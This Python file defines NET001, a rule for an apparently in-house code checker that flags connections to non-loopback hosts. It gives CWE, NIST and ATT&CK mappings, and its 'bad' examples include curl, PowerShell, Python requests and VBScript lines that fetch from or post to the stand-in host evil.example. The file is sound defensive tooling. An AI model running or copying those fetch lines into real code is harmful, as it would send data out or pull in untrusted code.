"""NET001: connects to a host that is proven not to be this machine."""

from __future__ import annotations

from collections.abc import Iterator

from gk_hooks.model.effects import Connect
from gk_hooks.model.findings import Category, Confidence, Example, Finding, Rule, Severity
from gk_hooks.model.hosts import Reach, resolve

RULE = Rule(
    id="NET001",
    title="Connects to a non-loopback host",
    category=Category.NETWORK,
    severity=Severity.BLOCKER,
    confidence=Confidence.HIGH,
    why="Traffic that leaves the machine can carry data out or commands in, and is not authorized on this network.",
    fix="Remove the connection, or point it at a loopback service; if the mission needs it, get the egress approved.",
    cwe=("CWE-918", "CWE-319"),
    nist=("SC-7", "AC-4", "CM-7"),
    attack=("T1071", "T1048"),
    bad=(
        Example('import requests\nrequests.get("https://evil.example/collect")'),
        Example("curl https://evil.example/tool", "example.sh"),
        Example("Invoke-WebRequest -Uri https://evil.example/tool", "example.ps1"),
        Example("curl.exe https://evil.example/tool", "example.bat"),
        Example(
            'Set http = CreateObject("MSXML2.XMLHTTP")\nhttp.Open "GET", "https://evil.example/x", False\nhttp.Send',
            "example.vbs",
        ),
    ),
    good=(
        Example('import requests\nrequests.get("http://127.0.0.1:8000/health")'),
        Example("curl http://localhost:8000/health", "example.sh"),
        Example("Invoke-WebRequest -Uri http://localhost:8000/health", "example.ps1"),
        Example("rem curl https://evil.example/tool", "example.bat"),
        Example("' see https://evil.example/manual", "example.vbs"),
    ),
)


@RULE.on(Connect)
def check(effect: Connect) -> Iterator[Finding]:
    """One reachable non-loopback literal among the possible destinations is enough."""
    hosts = [there.host for there in resolve(effect.destination, effect.form) if there.reach is Reach.REMOTE]
    if hosts:
        yield RULE.finding(
            effect,
            f"{effect.site.callee} connects to {' or '.join(dict.fromkeys(hosts))}",
            destination=effect.destination.shown(),
            trail=effect.destination.trail,
        )
